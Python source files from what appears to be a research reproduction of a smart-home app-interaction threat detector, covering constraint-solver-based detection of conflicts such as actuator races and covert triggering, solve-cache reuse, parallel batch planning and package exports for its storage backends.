                for key, result in self._effect_cache.items()
            ],
        }

    def import_caches(
        self, payload: dict, valid_apps: set[str] | None = None
    ) -> int:
        """Preload solve caches from an :meth:`export_caches` payload.

        ``valid_apps`` restricts loading to entries whose rules all
        belong to fingerprint-validated apps — entries touching an app
        whose configuration changed are silently skipped, so the engine
        re-solves them instead of serving stale results.  Structurally
        malformed entries (a corrupted-but-parseable store) are skipped
        the same way: the worst outcome of a bad entry is a re-solve.
        Returns the number of entries loaded."""
        if not isinstance(payload, dict):
            return 0

        def admissible(rule_ids) -> bool:
            return (
                isinstance(rule_ids, list)
                and all(isinstance(rule_id, str) for rule_id in rule_ids)
                and (
                    valid_apps is None
                    or all(
                        app_of_rule_id(rule_id) in valid_apps
                        for rule_id in rule_ids
                    )
                )
            )

        def load(entry: dict | None) -> Result | None:
            if entry is None:
                return None
            return Result(
                sat=bool(entry["sat"]),
                witness=dict(entry.get("witness", {})),
                decisions=int(entry.get("decisions", 0)),
            )

        loaded = 0
        for cache, name in (
            (self._situation_cache, "situation"),
            (self._condition_cache, "condition"),
        ):
            for item in payload.get(name, []):
                try:
                    rule_ids, entry = item
                    if entry is None or not admissible(rule_ids):
                        continue
                    cache[frozenset(rule_ids)] = load(entry)
                except (TypeError, ValueError, KeyError):
                    continue
                loaded += 1
        for item in payload.get("effect", []):
            try:
                rule_ids, entry = item
                if len(rule_ids) != 2 or not admissible(rule_ids):
                    continue
                self._effect_cache[(rule_ids[0], rule_ids[1])] = load(entry)
            except (TypeError, ValueError, KeyError):
                continue
            loaded += 1
        return loaded

    # ------------------------------------------------------------------
    # Pairwise detection

    def detect_pair(self, rule_a: Rule, rule_b: Rule) -> list[Threat]:
        """All CAI threats between two rules (both directions).

        Compatibility wrapper over :meth:`detect_signed`."""
        return self.detect_signed(
            self.signatures.sign(rule_a), self.signatures.sign(rule_b)
        )

    def detect_signed(
        self, sig_a: RuleSignature, sig_b: RuleSignature
    ) -> list[Threat]:
        """All CAI threats between two signed rules (both directions)."""
        return self._detect_pair(sig_a, sig_b, _InlineSolves(self))

    def _detect_pair(
        self, sig_a: RuleSignature, sig_b: RuleSignature, ctx
    ) -> list[Threat]:
        ctx.count_pair()
        threats: list[Threat] = []
        threats.extend(self._detect_action_interference(sig_a, sig_b, ctx))
        threats.extend(self._detect_trigger_interference(sig_a, sig_b, ctx))
        threats.extend(self._detect_condition_interference(sig_a, sig_b, ctx))
        return threats

    def detect_signed_batch(
        self,
        pairs: Sequence[tuple[RuleSignature, RuleSignature]],
        dispatcher: SolverDispatcher | None = None,
    ) -> list[list[Threat]]:
        """Plan/execute detection over a whole pair list (DESIGN.md §9).

        Planning passes run the candidate tests and queue one
        :class:`SolveTask` per cache-missing constraint instance;
        ``dispatcher`` executes each round's tasks (a condition solve is
        only needed once the pair's situation solve came back UNSAT, so
        up to two rounds arise); a finalize pass then replays every pair
        in order with all outcomes available.  Threat lists, solve
        caches, stats counters and exported store bytes are identical to
        running :meth:`detect_signed` pair-by-pair, for every backend
        and worker count — only ``plan_seconds`` / ``dispatch_seconds``
        and the wall clock differ.

        Backends that plan remotely (DESIGN.md §10) shard each round's
        pending pairs into :class:`PlanTask` chunks: workers plan their
        pairs against a scratch engine seeded with this engine's cached
        verdicts, build the cache-missing constraint instances, solve
        them locally, and return outcomes — the coordinator only merges
        (in chunk order) and finalizes.  Adaptive dispatchers pick their
        backend per batch via :meth:`SolverDispatcher.for_batch`."""
        if dispatcher is None:
            dispatcher = SerialDispatcher()
        dispatcher = dispatcher.for_batch(len(pairs))
        run = _BatchRun()
        resolver_payload = None
        cache_payload = None
        if dispatcher.plans_remotely and len(pairs) > 1:
            resolver_payload = dispatcher.encode_resolver(self._resolver)
            cache_payload = dispatcher.encode_cache(self.shared_cache)
        plan_cpu_before = self.stats.plan_cpu_seconds
        pending = list(range(len(pairs)))
        while pending:
            if resolver_payload is not None:
                deferred, progressed = self._plan_round_chunked(
                    pairs, pending, run, dispatcher, resolver_payload,
                    cache_payload,
                )
            else:
                deferred, progressed = self._plan_round_inline(
                    pairs, pending, run, dispatcher
                )
            # Executed outcomes are publishable the moment they are
            # absorbed; shared-cache-served ones never are.
            self._publish_executed(run)
            if not deferred:
                break
            if not progressed:
                raise RuntimeError(
                    "batch planning stalled: deferred pairs without tasks"
                )
            pending = deferred
        executed = [
            outcome
            for outcome in run.batch.outcomes.values()
            if not outcome.shared
        ]
        dispatcher.observe_batch(
            self.stats.plan_cpu_seconds - plan_cpu_before,
            len(pairs),
            len(executed),
            sum(outcome.seconds for outcome in executed),
        )
        # Drain the dispatcher's recovery counters into this batch's
        # stats (DESIGN.md §15).  take semantics mean every retry /
        # requeue / degrade event is attributed to exactly one batch.
        faults = dispatcher.take_fault_counters()
        self.stats.tasks_retried += faults["tasks_retried"]
        self.stats.chunks_requeued += faults["chunks_requeued"]
        self.stats.pool_failures += faults["pool_failures"]
        self.stats.degraded_serial += faults["degraded_serial"]
        finalize_started = time.perf_counter()
        results: list[list[Threat]] = []
        for sig_a, sig_b in pairs:
            results.append(
                self._detect_pair(sig_a, sig_b, _BatchSolves(self, run, True))
            )
        self.stats.plan_seconds += time.perf_counter() - finalize_started
        return results

    def _plan_round_inline(
        self,
        pairs: Sequence[tuple[RuleSignature, RuleSignature]],
        pending: list[int],
        run: _BatchRun,
        dispatcher: SolverDispatcher,
    ) -> tuple[list[int], int]:
        """One single-planner round: walk the pending pairs in order,
        streaming fresh tasks to the backend, then block on the solves.
        Returns (deferred pair indices, tasks submitted)."""
        plan_started = time.perf_counter()
        stream = dispatcher.stream()
        submitted = 0
        deferred: list[int] = []
        for i in pending:
            ctx = _BatchSolves(self, run, record=False)
            sig_a, sig_b = pairs[i]
            self._detect_pair(sig_a, sig_b, ctx)
            if ctx.pending:
                deferred.append(i)
            # Feed freshly planned tasks to the backend right away:
            # pooled dispatchers start solving the first pairs while
            # the planner still walks the rest of the batch.
            tasks = run.batch.take_pending()
            if tasks:
                submitted += len(tasks)
                stream.submit(tasks)
        plan_elapsed = time.perf_counter() - plan_started
        self.stats.plan_seconds += plan_elapsed
        self.stats.plan_cpu_seconds += plan_elapsed
        if submitted:
            collect_started = time.perf_counter()
            run.batch.absorb(stream.collect())
            self.stats.dispatch_seconds += (
                time.perf_counter() - collect_started
            )
        return deferred, submitted

    def _plan_round_chunked(
        self,
        pairs: Sequence[tuple[RuleSignature, RuleSignature]],
        pending: list[int],
        run: _BatchRun,
        dispatcher: SolverDispatcher,
        resolver_payload: object,
        cache_payload: object = None,
    ) -> tuple[list[int], int]:
        """One fan-out round (DESIGN.md §10): shard the pending pairs
        into :class:`PlanTask` chunks, let workers plan *and solve*
        them, merge the results in chunk order.  Returns (deferred pair
        indices, fresh outcomes merged)."""
        round_started = time.perf_counter()
        chunk_pairs = max(1, dispatcher.plan_chunk_pairs)
        chunks = [
            pending[i: i + chunk_pairs]
            for i in range(0, len(pending), chunk_pairs)
        ]
        plan_tasks = [
            PlanTask(
                pairs=tuple(pairs[i] for i in chunk),
                known=tuple(
                    self._pair_knowledge(pairs[i], run) for i in chunk
                ),
                resolver=resolver_payload,
                cache=cache_payload,
            )
            for chunk in chunks
        ]
        deferred: list[int] = []
        progressed = 0
        waited = 0.0
        stream = dispatcher.plan_stream(plan_tasks)
        for chunk in chunks:
            wait_started = time.perf_counter()
            result = next(stream)
            waited += time.perf_counter() - wait_started
            for key in result.inexpressible:
                run.inexpressible.add(key)
            progressed += run.batch.absorb_planned(result.outcomes)
            deferred.extend(chunk[i] for i in result.deferred)
            self.stats.plan_cpu_seconds += result.plan_seconds
            # Workers consult the shared cache but never write it: the
            # coordinator publishes their post-miss solves, so the
            # publish count is attributed exactly once even when two
            # chunks solved the same formula.
            if self.shared_cache is not None:
                for skey, entry in result.publishable:
                    if self.shared_cache.put(skey, entry):
                        self.stats.shared_cache_publishes += 1
        # The coordinator's own share of the round is chunk building +
        # merging; the wall spent blocked on workers is dispatch time
        # (workers interleave planning and solving inside it).
        self.stats.dispatch_seconds += waited
        self.stats.plan_seconds += (
            time.perf_counter() - round_started - waited
        )
        return deferred, progressed

    def _pair_knowledge(
        self,
        pair: tuple[RuleSignature, RuleSignature],
        run: _BatchRun,
    ) -> PairKnowledge:
        """What this engine already knows about a pair's solve slots —
        the seed a plan worker needs to reproduce the single-planner
        walk exactly (cached verdicts gate which tasks planning emits,
        paper Fig. 9)."""
        sig_a, sig_b = pair
        id_a, id_b = sig_a.rule_id, sig_b.rule_id
        unordered = frozenset((id_a, id_b))
        batch = run.batch

        def overlap_state(cache, kind) -> int:
            cached = cache.get(unordered)
            if cached is None:
                task_key = _unordered_key(kind, sig_a.rule, sig_b.rule)
                outcome = batch.outcome(task_key)
                if outcome is None:
                    return KNOWN_UNKNOWN
                cached = outcome.result
            return KNOWN_SAT if cached.sat else KNOWN_UNSAT

        def effect_state(first: str, second: str) -> int:
            key = (first, second)
            if key in self._effect_cache:
                cached = self._effect_cache[key]
                if cached is None:
                    return KNOWN_INEXPRESSIBLE
                return KNOWN_SAT if cached.sat else KNOWN_UNSAT
            task_key = ("effect", first, second)
            if task_key in run.inexpressible:
                return KNOWN_INEXPRESSIBLE
            outcome = batch.outcome(task_key)
            if outcome is None:
                return KNOWN_UNKNOWN
            return KNOWN_SAT if outcome.result.sat else KNOWN_UNSAT

        return (
            overlap_state(self._situation_cache, "situation"),
            overlap_state(self._condition_cache, "condition"),
            effect_state(id_a, id_b),
            effect_state(id_b, id_a),
        )

    # ------------------------------------------------------------------
    # Shared cross-tenant solve cache (DESIGN.md §12)

    def _shared_consult(
        self,
        task_key: TaskKey,
        pool: VarPool,
        formula: BoolFormula,
        run: _BatchRun,
    ) -> Result | None:
        """Consult the shared cache for a planned instance just before
        it would become a :class:`SolveTask`.

        A hit is absorbed into the batch as a ``shared`` outcome (the
        finalize pass attributes it once, to ``shared_cache_hits``) and
        returned; a miss registers the canonical maps so the executed
        outcome can be published later, and answers ``None`` — the
        caller queues the task exactly as without a backend."""
        cache = self.shared_cache
        if cache is None:
            return None
        skey, var_map, free_map = shared_key(pool, formula)
        entry = cache.get(skey)
        if entry is not None:
            result = decode_entry(entry, var_map, free_map)
            if result is not None:
                run.batch.absorb_planned(
                    [(task_key, SolveOutcome(result, 0.0, shared=True))]
                )
                return result
        run.publish[task_key] = (skey, var_map, free_map)
        return None

    def _publish_executed(self, run: _BatchRun) -> None:
        """Publish executed outcomes whose planning consult missed the
        shared cache.  ``put`` reports whether the entry was newly
        stored, so concurrent fleet controllers racing on one SQLite
        file still count each publish exactly once."""
        cache = self.shared_cache
        if cache is None or not run.publish:
            return
        ready = [
            task_key
            for task_key in run.publish
            if run.batch.outcome(task_key) is not None
        ]
        for task_key in ready:
            skey, var_map, free_map = run.publish.pop(task_key)
            outcome = run.batch.outcome(task_key)
            if outcome.shared:
                continue
            entry = encode_entry(outcome.result, var_map, free_map)
            if entry is not None and cache.put(skey, entry):
                self.stats.shared_cache_publishes += 1

    def detect_rulesets(
        self,
        new_ruleset: RuleSet,
        installed: list[RuleSet],
        include_intra_app: bool = True,
    ) -> ThreatReport:
        """Brute-force detection run for one app installation (paper §VI
        intro): the new app's rules against every installed rule, plus
        the new app's own rule pairs (flawed benign apps).

        This is the all-pairs baseline;
        :class:`~repro.detector.pipeline.DetectionPipeline` reaches the
        same threat set from indexed candidates only.
        """
        report = ThreatReport(app_name=new_ruleset.app_name)
        for other in installed:
            for rule_a in new_ruleset.rules:
                for rule_b in other.rules:
                    report.threats.extend(self.detect_pair(rule_a, rule_b))
        if include_intra_app:
            rules = new_ruleset.rules
            for i, rule_a in enumerate(rules):
                for rule_b in rules[i + 1:]:
                    report.threats.extend(self.detect_pair(rule_a, rule_b))
        return report

    # ------------------------------------------------------------------
    # Action interference (paper §VI-A)

    def _detect_action_interference(
        self, sig_a: RuleSignature, sig_b: RuleSignature, ctx
    ) -> list[Threat]:
        threats: list[Threat] = []
        rule_a, rule_b = sig_a.rule, sig_b.rule
        started = time.perf_counter()
        identity_a = sig_a.action_identity
        identity_b = sig_b.action_identity
        is_ar_candidate = (
            identity_a is not None
            and identity_a == identity_b
            and signatures_contradict(sig_a, sig_b)
        )
        ctx.add_candidate(
            ThreatType.ACTUATOR_RACE, time.perf_counter() - started
        )
        if is_ar_candidate:
            result = ctx.situation(rule_a, rule_b, ThreatType.ACTUATOR_RACE)
            if result is not PENDING and result.sat:
                threats.append(
                    Threat(
                        type=ThreatType.ACTUATOR_RACE,
                        rule_a=rule_a,
                        rule_b=rule_b,
                        detail=(
                            f"contradictory commands {rule_a.action.command!r} vs "
                            f"{rule_b.action.command!r} on the same actuator"
                        ),
                        witness=tuple(sorted(result.witness.items())),
                    )
                )
        started = time.perf_counter()
        conflict_channels = []
        if identity_a is None or identity_a != identity_b:
            conflict_channels = signed_goal_conflicts(sig_a, sig_b)
        ctx.add_candidate(
            ThreatType.GOAL_CONFLICT, time.perf_counter() - started
        )
        if conflict_channels:
            result = ctx.situation(rule_a, rule_b, ThreatType.GOAL_CONFLICT)
            if result is not PENDING and result.sat:
                threats.append(
                    Threat(
                        type=ThreatType.GOAL_CONFLICT,
                        rule_a=rule_a,
                        rule_b=rule_b,
                        detail=(
                            "opposite effects on "
                            + ", ".join(conflict_channels)
                        ),
                        witness=tuple(sorted(result.witness.items())),
                    )
                )
        return threats

    # ------------------------------------------------------------------
    # Trigger interference (paper §VI-B)

    def _detect_trigger_interference(
        self, sig_a: RuleSignature, sig_b: RuleSignature, ctx
    ) -> list[Threat]:
        threats: list[Threat] = []
        rule_a, rule_b = sig_a.rule, sig_b.rule
        ct_ab = self._covert_triggering(sig_a, sig_b, ctx)
        ct_ba = self._covert_triggering(sig_b, sig_a, ctx)
        if ct_ab is PENDING or ct_ba is PENDING:
            return []
        contradictory = signatures_contradict(sig_a, sig_b)
        if ct_ab is not None:
            threats.append(ct_ab)
            if contradictory:
                threats.append(
                    Threat(
                        type=ThreatType.SELF_DISABLING,
                        rule_a=rule_a,
                        rule_b=rule_b,
                        detail=(
                            f"{rule_b.app_name} undoes {rule_a.app_name}'s "
                            f"{rule_a.action.command!r} right after it triggers"
                        ),
                        witness=ct_ab.witness,
                    )
                )
        if ct_ba is not None:
            threats.append(ct_ba)
            if contradictory:
                threats.append(
                    Threat(
                        type=ThreatType.SELF_DISABLING,
                        rule_a=rule_b,
                        rule_b=rule_a,
                        detail=(
                            f"{rule_a.app_name} undoes {rule_b.app_name}'s "
                            f"{rule_b.action.command!r} right after it triggers"
                        ),
                        witness=ct_ba.witness,
                    )
                )
        if ct_ab is not None and ct_ba is not None and contradictory:
            threats.append(
                Threat(
                    type=ThreatType.LOOP_TRIGGERING,
                    rule_a=rule_a,
                    rule_b=rule_b,
                    detail=(
                        "the rules trigger each other and issue contradictory "
                        "commands on the same actuator(s)"
                    ),
                    witness=ct_ab.witness,
                )
            )
        return threats

    def _covert_triggering(
        self, sig_a: RuleSignature, sig_b: RuleSignature, ctx
    ):
        """A CT threat, ``None``, or :data:`PENDING` while planning."""
        rule_a, rule_b = sig_a.rule, sig_b.rule
        started = time.perf_counter()
        match = signed_action_triggers(sig_a, sig_b)
        ctx.add_candidate(
            ThreatType.COVERT_TRIGGERING, time.perf_counter() - started
        )
        if match is None:
            return None
        # Overlapping-condition detection on the two conditions; this
        # reuses the situation solve when one is already cached (Fig. 9).
        result = ctx.conditions(
            rule_a, rule_b, ThreatType.COVERT_TRIGGERING
        )
        if result is PENDING:
            return PENDING
        if not result.sat:
            return None
        way = (
            "directly changes the subscribed device state"
            if match.way == "direct"
            else f"changes the home's {match.channel} sensed by the trigger"
        )
        return Threat(
            type=ThreatType.COVERT_TRIGGERING,
            rule_a=rule_a,
            rule_b=rule_b,
            detail=f"{rule_a.action.command!r} {way}",
            witness=tuple(sorted(result.witness.items())),
        )

    # ------------------------------------------------------------------
    # Condition interference (paper §VI-C)

    def _detect_condition_interference(
        self, sig_a: RuleSignature, sig_b: RuleSignature, ctx
    ) -> list[Threat]:
        threats: list[Threat] = []
        for source, target in ((sig_a, sig_b), (sig_b, sig_a)):
            threat = self._condition_interference(source, target, ctx)
            if threat is not None and threat is not PENDING:
                threats.append(threat)
        return threats

    def _condition_interference(
        self, sig_a: RuleSignature, sig_b: RuleSignature, ctx
    ):
        """An EC/DC threat, ``None``, or :data:`PENDING` while planning."""
        rule_a, rule_b = sig_a.rule, sig_b.rule
        started = time.perf_counter()
        touches = signed_condition_touches(sig_a, sig_b)
        mode_touch = (
            sig_a.sets_location_mode
            and sig_b.condition_uses_mode
            and sig_a.environment == sig_b.environment
        )
        ctx.add_candidate(
            ThreatType.ENABLING_CONDITION, time.perf_counter() - started
        )
        if not touches and not mode_touch:
            return None
        result = ctx.effect(rule_a, rule_b, touches, mode_touch)
        if result is PENDING:
            return PENDING
        if result is None:
            # Effect not expressible (symbolic parameter): report the
            # candidate conservatively as a potential enabling.
            return Threat(
                type=ThreatType.ENABLING_CONDITION,
                rule_a=rule_a,
                rule_b=rule_b,
                detail="effect depends on a runtime parameter; may enable the condition",
            )
        threat_type = (
            ThreatType.ENABLING_CONDITION
            if result.sat
            else ThreatType.DISABLING_CONDITION
        )
        what = ", ".join(
            f"{touch.attr.device.name}.{touch.attr.attribute}" for touch in touches
        ) or "location.mode"
        verb = "enables" if result.sat else "disables"
        return Threat(
            type=threat_type,
            rule_a=rule_a,
            rule_b=rule_b,
            detail=f"{rule_a.action.command!r} {verb} the condition via {what}",
            witness=tuple(sorted(result.witness.items())),
        )

    # ------------------------------------------------------------------
    # Constraint instances (shared by inline solving and batch planning)

    def _situation_instance(
        self, rule_a: Rule, rule_b: Rule
    ) -> tuple[VarPool, BoolFormula]:
        builder = ConstraintBuilder(self._resolver, interner=self._interner)
        formula = conj([builder.situation(rule_a), builder.situation(rule_b)])
        return builder.pool, formula

    def _condition_instance(
        self, rule_a: Rule, rule_b: Rule
    ) -> tuple[VarPool, BoolFormula]:
        builder = ConstraintBuilder(self._resolver, interner=self._interner)
        formula = conj([builder.condition(rule_a), builder.condition(rule_b)])
        return builder.pool, formula

    def _effect_instance(
        self,
        rule_a: Rule,
        rule_b: Rule,
        touches: list[ConditionTouch],
        mode_touch: bool,
    ) -> tuple[VarPool, BoolFormula] | None:
        """The EC/DC constraint instance, or ``None`` when no effect of
        ``rule_a`` on ``rule_b``'s condition is expressible."""
        builder = ConstraintBuilder(self._resolver, interner=self._interner)
        effect_parts: list[BoolFormula] = []
        expressible = False
        for touch in touches:
            formula = self._effect_formula(builder, rule_a, rule_b, touch)
            if formula is not None:
                effect_parts.append(formula)
                expressible = True
        if mode_touch:
            target = command_target(rule_a.action)
            if target is not None and target[1] is not None:
                # Mode touches require equal environments, so rule_b's
                # home names the (environment-scoped) mode variable the
                # condition lowering will use.
                env = environment_of(self._resolver, rule_b.app_name)
                key_var = builder.pool.declare_str(
                    scoped_key(env, "location:mode"), None
                )
                effect_parts.append(
                    lit(CmpAtom(StrTerm(key_var), "==", StrTerm(None, target[1])))
                )
                expressible = True
        if not expressible:
            return None
        condition = builder.condition(rule_b)
        return builder.pool, conj(effect_parts + [condition])

    def _solve_effect(
        self,
        rule_a: Rule,
        rule_b: Rule,
        touches: list[ConditionTouch],
        mode_touch: bool,
    ) -> Result | None:
        key = (rule_a.rule_id, rule_b.rule_id)
        if key in self._effect_cache:
            self.stats.cache_hits += 1
            return self._effect_cache[key]
        instance = self._effect_instance(rule_a, rule_b, touches, mode_touch)
        if instance is None:
            self._effect_cache[key] = None
            return None
        pool, formula = instance
        result = self._solve_shared(
            pool, formula, ThreatType.ENABLING_CONDITION
        )
        self._effect_cache[key] = result
        return result

    def _effect_formula(
        self,
        builder: ConstraintBuilder,
        rule_a: Rule,
        rule_b: Rule,
        touch: ConditionTouch,
    ) -> BoolFormula | None:
        action = rule_a.action
        if touch.way == "direct":
            target = command_target(action)
            if target is None or target[1] is None:
                return None
            return builder.attr_equals(
                rule_b.app_name, touch.attr.device, touch.attr.attribute, target[1]
            )
        # Environmental effect.  Setpoint commands carry their target
        # (paper: effect constraint `tSensor.temperature >= T`); bare
        # directional commands are modeled as driving the channel to the
        # EFFECT_TARGET_FRACTION point of its range.
        assert touch.channel is not None and touch.effect is not None
        channel = CHANNELS[touch.channel]
        params = action.params
        if (
            action.command.startswith("set")
            and params
            and isinstance(params[0], Const)
            and isinstance(params[0].value, (int, float))
        ):
            op = ">=" if touch.effect.value == "+" else "<="
            return builder.attr_compare(
                rule_b.app_name,
                touch.attr.device,
                touch.attr.attribute,
                op,
                float(params[0].value),
            )
        span = channel.high - channel.low
        if touch.effect.value == "+":
            target_value = channel.low + EFFECT_TARGET_FRACTION * span
            return builder.attr_compare(
                rule_b.app_name, touch.attr.device, touch.attr.attribute,
                ">=", target_value,
            )
        target_value = channel.high - EFFECT_TARGET_FRACTION * span
        return builder.attr_compare(
            rule_b.app_name, touch.attr.device, touch.attr.attribute,
            "<=", target_value,
        )

    # ------------------------------------------------------------------
    # Overlap solving with reuse

    def _solve_shared(
        self, pool: VarPool, formula: BoolFormula, threat_type: ThreatType
    ) -> Result:
        """Inline solve with the shared cache between the per-home
        caches and the solver (DESIGN.md §12): consult, solve on miss,
        publish the fresh verdict.  Without a backend this is exactly
        the historical solve-and-count sequence."""
        cache = self.shared_cache
        skey = var_map = free_map = None
        if cache is not None:
            skey, var_map, free_map = shared_key(pool, formula)
            entry = cache.get(skey)
            if entry is not None:
                result = decode_entry(entry, var_map, free_map)
                if result is not None:
                    self.stats.shared_cache_hits += 1
                    return result
        started = time.perf_counter()
        result = Solver(pool).solve(formula)
        self.stats.add_solve(threat_type, time.perf_counter() - started)
        self.stats.solver_calls += 1
        if cache is not None:
            entry = encode_entry(result, var_map, free_map)
            if entry is not None and cache.put(skey, entry):
                self.stats.shared_cache_publishes += 1
        return result

    def _overlap_situation(
        self, rule_a: Rule, rule_b: Rule, threat_type: ThreatType
    ) -> Result:
        key = frozenset((rule_a.rule_id, rule_b.rule_id))
        cached = self._situation_cache.get(key)
        if cached is not None:
            self.stats.cache_hits += 1
            return cached
        pool, formula = self._situation_instance(rule_a, rule_b)
        result = self._solve_shared(pool, formula, threat_type)
        self._situation_cache[key] = result
        return result

    def _overlap_conditions(
        self, rule_a: Rule, rule_b: Rule, threat_type: ThreatType
    ) -> Result:
        # Reuse the full-situation result when available: if the merged
        # triggers+conditions are satisfiable, so are the conditions.
        key = frozenset((rule_a.rule_id, rule_b.rule_id))
        cached = self._situation_cache.get(key)
        if cached is not None and cached.sat:
            self.stats.cache_hits += 1
            return cached
        cached = self._condition_cache.get(key)
        if cached is not None:
            self.stats.cache_hits += 1
            return cached
        pool, formula = self._condition_instance(rule_a, rule_b)
        result = self._solve_shared(pool, formula, threat_type)
        self._condition_cache[key] = result
        return result


# ----------------------------------------------------------------------
# Plan-chunk worker (DESIGN.md §10)


def _seed_pair_knowledge(
    engine: DetectionEngine, id_a: str, id_b: str, known: PairKnowledge
) -> None:
    """Replant a pair's coordinator-side verdicts into a scratch
    engine's caches.  Planning only ever reads presence, the ``sat``
    bit and the inexpressible ``None`` marker, so witness-free stub
    results reproduce the coordinator's planning decisions exactly."""
    situation, condition, effect_ab, effect_ba = known
    unordered = frozenset((id_a, id_b))
    if situation != KNOWN_UNKNOWN:
        engine._situation_cache[unordered] = Result(
            sat=situation == KNOWN_SAT
        )
    if condition != KNOWN_UNKNOWN:
        engine._condition_cache[unordered] = Result(
            sat=condition == KNOWN_SAT
        )
    for key, state in (
        ((id_a, id_b), effect_ab),
        ((id_b, id_a), effect_ba),
    ):
        if state == KNOWN_INEXPRESSIBLE:
            engine._effect_cache[key] = None
        elif state != KNOWN_UNKNOWN:
            engine._effect_cache[key] = Result(sat=state == KNOWN_SAT)


def plan_pair_chunk(task: PlanTask) -> PlanResult:
    """Plan one :class:`PlanTask` chunk and solve its tasks in place.

    Runs wherever the dispatcher put it — a worker process (the task
    pickles by construction), a pool thread, or inline.  The scratch
    engine is seeded with the coordinator's per-pair verdicts, so the
    chunk emits exactly the tasks the single-planner walk would have
    emitted for these pairs, in the same order; solving them locally
    (fused plan+solve) keeps formulas on the worker and ships only the
    small keyed outcomes back.

    When the task carries a shared solve-cache payload (DESIGN.md §12)
    the worker consults it while planning — warmed verdicts come back
    as ``shared`` outcomes instead of local solves — and encodes its
    post-miss solves as ``publishable`` entries for the *coordinator*
    to publish (workers never write the backend)."""
    resolver = resolver_from_payload(task.resolver)
    engine = DetectionEngine(
        resolver, shared_cache=cache_from_payload(task.cache)
    )
    run = _BatchRun()
    for (sig_a, sig_b), known in zip(task.pairs, task.known):
        _seed_pair_knowledge(engine, sig_a.rule_id, sig_b.rule_id, known)
    plan_started = time.perf_counter()
    deferred: list[int] = []
    for i, (sig_a, sig_b) in enumerate(task.pairs):
        ctx = _BatchSolves(engine, run, record=False)
        engine._detect_pair(sig_a, sig_b, ctx)
        if ctx.pending:
            deferred.append(i)
    plan_seconds = time.perf_counter() - plan_started
    # Executed outcomes join the shared-cache hits absorbed during
    # planning; ``outcomes.items()`` preserves planning/execution order
    # so the coordinator's merge stays deterministic.
    run.batch.absorb(execute_chunk(run.batch.take_pending()))
    publishable: list[tuple[str, dict]] = []
    for task_key, (skey, var_map, free_map) in run.publish.items():
        outcome = run.batch.outcome(task_key)
        if outcome is None or outcome.shared:
            continue
        entry = encode_entry(outcome.result, var_map, free_map)
        if entry is not None:
            publishable.append((skey, entry))
    return PlanResult(
        outcomes=tuple(run.batch.outcomes.items()),
        inexpressible=tuple(sorted(run.inexpressible)),
        deferred=tuple(deferred),
        plan_seconds=plan_seconds,
        publishable=tuple(publishable),
    )
