"""CAI threat detection (paper §III categorization + §VI detection).

The detection engine evaluates the interaction relations between the
rules of a newly installed (or reconfigured) app and those of already
installed apps:

* **Action interference** — Actuator Race (AR) and Goal Conflict (GC),
* **Trigger interference** — Covert Triggering (CT), Self Disabling
  (SD) and Loop Triggering (LT),
* **Condition interference** — Enabling (EC) and Disabling (DC),
* **Chained threats** — indirect interference through the Allowed list.

Candidate filtering uses the global M_AR / M_GC mappings; candidates are
confirmed by overlapping-condition detection via the constraint solver,
with solving results reused across threat types (paper Fig. 9).
"""

from repro.detector.types import (
    Threat,
    ThreatReport,
    ThreatType,
)
from repro.detector.engine import DetectionEngine

__all__ = [
    "DetectionEngine",
    "Threat",
    "ThreatReport",
    "ThreatType",
]
