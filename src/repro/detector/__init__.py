"""CAI threat detection (paper §III categorization + §VI detection).

The detection engine evaluates the interaction relations between the
rules of a newly installed (or reconfigured) app and those of already
installed apps:

* **Action interference** — Actuator Race (AR) and Goal Conflict (GC),
* **Trigger interference** — Covert Triggering (CT), Self Disabling
  (SD) and Loop Triggering (LT),
* **Condition interference** — Enabling (EC) and Disabling (DC),
* **Chained threats** — indirect interference through the Allowed list.

Candidate filtering uses the global M_AR / M_GC mappings; candidates are
confirmed by overlapping-condition detection via the constraint solver,
with solving results reused across threat types (paper Fig. 9).

Detection runs as a three-layer pipeline (DESIGN.md): per-rule
:class:`RuleSignature` facts are computed once, filed into the inverted
:class:`RuleIndex` (one shard per home via :class:`ShardedRuleIndex`),
and the incremental :class:`DetectionPipeline` feeds the engine only
index-selected candidate pairs — so installing app N+1 never rescans
all installed rule pairs.  :class:`DetectionStore` persists all three
layers plus the solve caches to a versioned, environment-sharded
on-disk store, so audits warm-start across processes with zero solver
calls (DESIGN.md §8).

With a :class:`~repro.constraints.dispatch.SolverDispatcher` configured
(``DetectionPipeline(dispatcher=...)``), detection runs in plan/execute
mode: candidate pairs are planned into a solve batch first and the
batch fans out to serial/thread/process workers with byte-identical
threat reports, caches and store bytes (DESIGN.md §9).
"""

from repro.detector.types import (
    Threat,
    ThreatReport,
    ThreatType,
)
from repro.detector.engine import DetectionEngine
from repro.detector.index import RuleIndex, ShardedRuleIndex
from repro.detector.pipeline import DetectionPipeline
from repro.detector.signature import (
    RuleSignature,
    SignatureBuilder,
    compute_signature,
    may_interfere,
)
from repro.detector.storage import (
    DirectoryBackend,
    SQLiteStoreBackend,
    StoreBackend,
    make_store_backend,
)
from repro.detector.store import (
    DetectionStore,
    StoreCommit,
    StoreSnapshot,
    WarmStart,
)

__all__ = [
    "DetectionEngine",
    "DetectionPipeline",
    "DetectionStore",
    "DirectoryBackend",
    "RuleIndex",
    "RuleSignature",
    "SQLiteStoreBackend",
    "ShardedRuleIndex",
    "SignatureBuilder",
    "StoreBackend",
    "StoreCommit",
    "StoreSnapshot",
    "Threat",
    "ThreatReport",
    "ThreatType",
    "WarmStart",
    "compute_signature",
    "make_store_backend",
    "may_interfere",
]
