"""WAL-mode SQLite key-value backend for the detection store.

One database file holds every document and journal record of one store
— or, namespaced, of a whole fleet's store root: multiple fleet
controllers can open the same file concurrently (WAL journaling plus a
busy timeout, exactly like
:class:`~repro.constraints.solvecache.SQLiteSolveCache`), and a
:class:`~repro.service.service.HomeGuardService` gives every tenant
home a :meth:`SQLiteStoreBackend.namespace` view over a single shared
connection, so a million-home fleet costs one file descriptor instead
of one per home.

A corrupt or unreadable database *degrades*: a :class:`RuntimeWarning`
is issued once, every read misses (the store loads as cold — apps
re-sign and re-solve, stale results are never served), every write
reports zero bytes.  The file is never deleted, so diagnosis stays
possible and a concurrent healthy controller is never sabotaged.

*Transient* failures — ``sqlite3.OperationalError``, most commonly
``database is locked`` when another controller holds a long write
transaction — do **not** disable the connection.  They feed a
:class:`~repro.resilience.CircuitBreaker` (DESIGN.md §15): the failed
statement degrades like a corrupt store would (miss / zero bytes
written — the commit layer above reports the shortfall in
``store_bytes_written``), repeated failures open the breaker so the
fleet stops hammering a locked database, and once the cooldown passes
a probe statement restores service with no data loss for everything
written after that point.

Durability: ``synchronous=FULL`` — the store is a system of record
